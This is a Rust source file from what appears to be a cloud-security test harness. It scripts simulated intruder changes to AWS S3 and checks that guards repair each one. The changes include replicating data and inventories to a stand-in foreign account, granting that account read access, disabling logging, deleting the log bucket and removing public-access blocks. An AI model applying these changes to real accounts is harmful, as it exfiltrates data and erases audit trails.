//! Attacks on the rules of buckets, on access control lists, on the account and through access points.

use parapet_aws::sdk::s3::types as s3;
use parapet_aws::sdk::s3control::types::PublicAccessBlockConfiguration;
use parapet_console::Result;
use serde_json::{Value, json};

use super::encryption::sent;
use super::{Attack, ENCRYPTION_GUARD, POLICY_GUARD};
use crate::ACCOUNT;
use crate::documents::{has_sid, policy};
use crate::{Scene, reading};

/// An account that nobody trusts.
const STRANGER: &str = "999999999999";

/// The canonical user id of somebody else.
const STRANGERS_ID: &str = "b70a2c0b3ee9a9b2b4c1ef2f3d1c5f0a6f0c5f1e2d3c4b5a69788796a5b4c3d2";

/// Attacks on the rules of buckets, on access control lists, on the account and through access points.
pub const BUCKET_ATTACKS: &[Attack] = &[
    Attack {
        name: "logs to expire after a day, old versions too",
        event: "PutBucketLifecycle",
        guard: ENCRYPTION_GUARD,
        prepare: None,
        call: |s| Box::pin(expire_logs(s)),
        is_repaired: |s| {
            Box::pin(async {
                let rules = reading::lifecycle(s.administrator(), s.log_bucket()).await?;
                let days = |rule: &s3::LifecycleRule| {
                    let current = rule.expiration.as_ref().and_then(|expiration| expiration.days);
                    let old =
                        rule.noncurrent_version_expiration.as_ref().and_then(|expiration| expiration.noncurrent_days);
                    (current, old)
                };
                Ok(rules.iter().map(days).collect::<Vec<_>>() == [(Some(365), Some(365)), (None, None)])
            })
        },
    },
    Attack {
        name: "the data copied to a bucket of somebody else",
        event: "PutBucketReplication",
        guard: ENCRYPTION_GUARD,
        prepare: None,
        call: |s| Box::pin(replicate(s)),
        is_repaired: |s| {
            Box::pin(async { Ok(reading::replication(s.administrator(), s.ml_bucket()).await?.is_empty()) })
        },
    },
    Attack {
        name: "every change told to a queue of another account",
        event: "PutBucketNotification",
        guard: ENCRYPTION_GUARD,
        prepare: None,
        call: |s| Box::pin(tell_a_stranger(s)),
        is_repaired: |s| {
            Box::pin(async {
                let told = s.administrator().s3().get_bucket_notification_configuration().bucket(s.ml_bucket());
                let told = told.send().await?;
                Ok(told.queue_configurations().is_empty() && told.event_bridge_configuration().is_some())
            })
        },
    },
    Attack {
        name: "the data served as a website",
        event: "PutBucketWebsite",
        guard: ENCRYPTION_GUARD,
        prepare: None,
        call: |s| {
            Box::pin(async {
                let index = s3::IndexDocument::builder().suffix("index.html").build()?;
                let website = s3::WebsiteConfiguration::builder().index_document(index).build();
                let put = s.intruder().s3().put_bucket_website().bucket(s.ml_bucket()).website_configuration(website);
                sent(put.send().await)
            })
        },
        is_repaired: |s| {
            Box::pin(async {
                let website = s.administrator().s3().get_bucket_website().bucket(s.ml_bucket()).send().await;
                Ok(reading::found(website)?.is_none())
            })
        },
    },
    Attack {
        name: "a list of all objects written to a stranger's bucket every day",
        event: "PutInventoryConfiguration",
        guard: ENCRYPTION_GUARD,
        prepare: None,
        call: |s| {
            Box::pin(async {
                let to = s3::InventoryS3BucketDestination::builder().bucket("arn:aws:s3:::offsite-lists");
                let to = s3::InventoryDestination::builder()
                    .s3_bucket_destination(to.format(s3::InventoryFormat::Csv).build()?);
                let schedule = s3::InventorySchedule::builder().frequency(s3::InventoryFrequency::Daily).build()?;
                let inventory = s3::InventoryConfiguration::builder()
                    .id("offsite")
                    .is_enabled(true)
                    .destination(to.build())
                    .included_object_versions(s3::InventoryIncludedObjectVersions::All)
                    .schedule(schedule)
                    .build()?;
                let put = s.intruder().s3().put_bucket_inventory_configuration().bucket(s.ml_bucket());
                sent(put.id("offsite").inventory_configuration(inventory).send().await)
            })
        },
        is_repaired: |s| {
            Box::pin(async {
                let list = s.administrator().s3().list_bucket_inventory_configurations();
                Ok(list.bucket(s.ml_bucket()).send().await?.inventory_configuration_list().is_empty())
            })
        },
    },
    Attack {
        name: "any web page may read the data with a user's link",
        event: "PutBucketCors",
        guard: ENCRYPTION_GUARD,
        prepare: None,
        call: |s| {
            Box::pin(async {
                let rule =
                    |origin: &str| s3::CorsRule::builder().allowed_origins(origin).allowed_methods("GET").build();
                let rules = vec![rule("*")?, rule("https://labels.example.com")?];
                let cors = s3::CorsConfiguration::builder().set_cors_rules(Some(rules)).build()?;
                sent(s.intruder().s3().put_bucket_cors().bucket(s.ml_bucket()).cors_configuration(cors).send().await)
            })
        },
        is_repaired: |s| {
            Box::pin(async {
                let cors = reading::found(s.administrator().s3().get_bucket_cors().bucket(s.ml_bucket()).send().await)?;
                let rules = cors.and_then(|cors| cors.cors_rules).unwrap_or_default();
                let origins: Vec<String> = rules.into_iter().flat_map(|rule| rule.allowed_origins).collect();
                Ok(origins == ["https://labels.example.com"])
            })
        },
    },
    Attack {
        name: "new logs locked for a day only",
        event: "PutBucketObjectLockConfiguration",
        guard: ENCRYPTION_GUARD,
        prepare: None,
        call: |s| {
            let default = s3::DefaultRetention::builder().mode(s3::ObjectLockRetentionMode::Governance).days(1).build();
            let rule = s3::ObjectLockRule::builder().default_retention(default).build();
            let lock = s3::ObjectLockConfiguration::builder()
                .object_lock_enabled(s3::ObjectLockEnabled::Enabled)
                .rule(rule)
                .build();
            let put = s.intruder().s3().put_object_lock_configuration().bucket(s.log_bucket());
            let put = put.object_lock_configuration(lock);
            Box::pin(async { sent(put.send().await) })
        },
        is_repaired: |s| {
            Box::pin(async { Ok(reading::retention_days(s.administrator(), s.log_bucket()).await? == Some(365)) })
        },
    },
    Attack {
        name: "access logging of the data off",
        event: "PutBucketLogging",
        guard: ENCRYPTION_GUARD,
        prepare: None,
        call: |s| {
            let off = s3::BucketLoggingStatus::builder().build();
            let put = s.intruder().s3().put_bucket_logging().bucket(s.ml_bucket()).bucket_logging_status(off);
            Box::pin(async { sent(put.send().await) })
        },
        is_repaired: |s| {
            Box::pin(async {
                let logging = s.administrator().s3().get_bucket_logging().bucket(s.ml_bucket()).send().await?;
                Ok(logging.logging_enabled.is_some_and(|on| on.target_bucket == access_log_bucket()))
            })
        },
    },
    Attack {
        name: "the data bucket's tags removed",
        event: "DeleteBucketTagging",
        guard: ENCRYPTION_GUARD,
        prepare: None,
        call: |s| {
            Box::pin(async { sent(s.intruder().s3().delete_bucket_tagging().bucket(s.ml_bucket()).send().await) })
        },
        is_repaired: |s| {
            Box::pin(async {
                let tags = s.administrator().s3().get_bucket_tagging().bucket(s.ml_bucket()).send().await?.tag_set;
                Ok(tags.iter().any(|tag| tag.key() == "Purpose" && tag.value() == "MLPipelineDataStorage"))
            })
        },
    },
    Attack {
        name: "the bucket of access logs deleted",
        event: "DeleteBucket",
        guard: ENCRYPTION_GUARD,
        prepare: None,
        call: |s| Box::pin(async { sent(s.intruder().s3().delete_bucket().bucket(access_log_bucket()).send().await) }),
        is_repaired: |s| {
            Box::pin(async {
                let (aws, bucket) = (s.administrator(), access_log_bucket());
                let policy = reading::bucket_policy(aws, &bucket).await?;
                Ok(reading::is_blocked(aws, &bucket).await?
                    && reading::is_versioned(aws, &bucket).await?
                    && reading::is_owner_enforced(aws, &bucket).await?
                    && policy.is_some_and(|policy| has_sid(&policy, "S3ServerAccessLogs")))
            })
        },
    },
    Attack {
        name: "the account's public access block off",
        event: "PutAccountPublicAccessBlock",
        guard: ENCRYPTION_GUARD,
        prepare: None,
        call: |s| {
            let off = PublicAccessBlockConfiguration::builder().block_public_acls(false).build();
            let put = s.intruder().s3control().put_public_access_block().account_id(ACCOUNT);
            let put = put.public_access_block_configuration(off);
            Box::pin(async { sent(put.send().await) })
        },
        is_repaired: |s| Box::pin(reading::is_account_blocked(s.administrator())),
    },
    Attack {
        name: "the account's public access block deleted",
        event: "DeleteAccountPublicAccessBlock",
        guard: ENCRYPTION_GUARD,
        prepare: None,
        call: |s| {
            let delete = s.intruder().s3control().delete_public_access_block().account_id(ACCOUNT);
            Box::pin(async { sent(delete.send().await) })
        },
        is_repaired: |s| Box::pin(reading::is_account_blocked(s.administrator())),
    },
    Attack {
        name: "a new bucket that a stranger may read by its list",
        event: "CreateBucket",
        guard: POLICY_GUARD,
        prepare: None,
        call: |s| {
            let create = s
                .intruder()
                .s3()
                .create_bucket()
                .bucket(s.named("shared-drop"))
                .object_ownership(s3::ObjectOwnership::ObjectWriter)
                .grant_read(format!("id={STRANGERS_ID}"));
            Box::pin(async { sent(create.send().await) })
        },
        is_repaired: |s| {
            Box::pin(async {
                let (aws, bucket) = (s.administrator(), s.named("shared-drop"));
                // Two guards: the list is one's, and that no list counts any more the other's, which has to wait for the first.
                Ok(!reading::is_listed(aws, &bucket, STRANGERS_ID).await?
                    && reading::is_owner_enforced(aws, &bucket).await?)
            })
        },
    },
    Attack {
        name: "another account let in by the bucket policy",
        event: "PutBucketPolicy",
        guard: POLICY_GUARD,
        prepare: None,
        call: |s| Box::pin(let_a_stranger_read(s)),
        is_repaired: |s| {
            Box::pin(async {
                let policy = reading::bucket_policy(s.administrator(), s.ml_bucket()).await?;
                Ok(policy
                    .is_some_and(|policy| !has_sid(&policy, "Partner") && has_sid(&policy, "DenyInsecureTransport")))
            })
        },
    },
    Attack {
        name: "another account let in through an access point",
        event: "PutAccessPointPolicy",
        guard: POLICY_GUARD,
        prepare: Some(|s| Box::pin(create_access_point(s))),
        call: |s| {
            let name = s.named("side-door");
            let put = s.intruder().s3control().put_access_point_policy().account_id(ACCOUNT).name(&name);
            let put = put.policy(policy([through(&name, &stranger())]).to_string());
            Box::pin(async { sent(put.send().await) })
        },
        is_repaired: |s| {
            Box::pin(async {
                let get = s.administrator().s3control().get_access_point_policy().account_id(ACCOUNT);
                let found = reading::found(get.name(s.named("side-door")).send().await)?;
                Ok(found.and_then(|answer| answer.policy).is_none_or(|policy| !policy.contains(STRANGER)))
            })
        },
    },
];

fn access_log_bucket() -> String {
    format!("parapet-access-logs-{ACCOUNT}-us-east-1")
}

fn stranger() -> String {
    format!("arn:aws:iam::{STRANGER}:role/reader")
}

fn through(access_point: &str, principal: &str) -> Value {
    json!({
        "Sid": "Partner", "Effect": "Allow", "Principal": {"AWS": principal}, "Action": "s3:GetObject",
        "Resource": format!("arn:aws:s3:us-east-1:{ACCOUNT}:accesspoint/{access_point}/object/*"),
    })
}

async fn expire_logs(s: &Scene<'_>) -> Result<()> {
    let everything = || s3::LifecycleRuleFilter::builder().prefix("").build();
    let tidy_up = s3::LifecycleRule::builder()
        .id("tidy-up")
        .status(s3::ExpirationStatus::Enabled)
        .filter(everything())
        .expiration(s3::LifecycleExpiration::builder().days(1).build())
        .noncurrent_version_expiration(s3::NoncurrentVersionExpiration::builder().noncurrent_days(1).build());
    let uploads = s3::LifecycleRule::builder()
        .id("abandoned-uploads")
        .status(s3::ExpirationStatus::Enabled)
        .filter(everything())
        .abort_incomplete_multipart_upload(
            s3::AbortIncompleteMultipartUpload::builder().days_after_initiation(7).build(),
        );
    let rules = vec![tidy_up.build()?, uploads.build()?];
    let configuration = s3::BucketLifecycleConfiguration::builder().set_rules(Some(rules)).build()?;
    let put = s.intruder().s3().put_bucket_lifecycle_configuration().bucket(s.log_bucket());
    sent(put.lifecycle_configuration(configuration).send().await)
}

async fn replicate(s: &Scene<'_>) -> Result<()> {
    let rule = s3::ReplicationRule::builder()
        .id("offsite")
        .priority(0)
        .status(s3::ReplicationRuleStatus::Enabled)
        .filter(s3::ReplicationRuleFilter::builder().prefix("").build())
        .delete_marker_replication(
            s3::DeleteMarkerReplication::builder().status(s3::DeleteMarkerReplicationStatus::Disabled).build(),
        )
        .destination(s3::Destination::builder().bucket("arn:aws:s3:::offsite-copy").account(STRANGER).build()?);
    let configuration = s3::ReplicationConfiguration::builder()
        .role(s.lab().output("ml_service_role_arn"))
        .rules(rule.build()?)
        .build()?;
    let put = s.intruder().s3().put_bucket_replication().bucket(s.ml_bucket());
    sent(put.replication_configuration(configuration).send().await)
}

async fn tell_a_stranger(s: &Scene<'_>) -> Result<()> {
    let queue = s3::QueueConfiguration::builder()
        .id("watch")
        .queue_arn(format!("arn:aws:sqs:us-east-1:{STRANGER}:watch"))
        .events(s3::Event::from("s3:ObjectCreated:*"));
    let configuration = s3::NotificationConfiguration::builder()
        .queue_configurations(queue.build()?)
        .event_bridge_configuration(s3::EventBridgeConfiguration::builder().build());
    let put = s.intruder().s3().put_bucket_notification_configuration().bucket(s.ml_bucket());
    let put = put.skip_destination_validation(true).notification_configuration(configuration.build());
    sent(put.send().await)
}

async fn let_a_stranger_read(s: &Scene<'_>) -> Result<()> {
    let (aws, bucket) = (s.intruder(), s.ml_bucket());
    let mut document = reading::bucket_policy(s.administrator(), bucket).await?.unwrap_or_else(|| policy([]));
    if let Some(statements) = document.get_mut("Statement").and_then(Value::as_array_mut) {
        statements.push(json!({
            "Sid": "Partner", "Effect": "Allow", "Principal": {"AWS": stranger()}, "Action": "s3:GetObject",
            "Resource": format!("arn:aws:s3:::{bucket}/*"),
        }));
    }
    sent(aws.s3().put_bucket_policy().bucket(bucket).policy(document.to_string()).send().await)
}

async fn create_access_point(s: &Scene<'_>) -> Result<()> {
    let create = s.administrator().s3control().create_access_point().account_id(ACCOUNT).name(s.named("side-door"));
    sent(create.bucket(s.ml_bucket()).send().await)
}
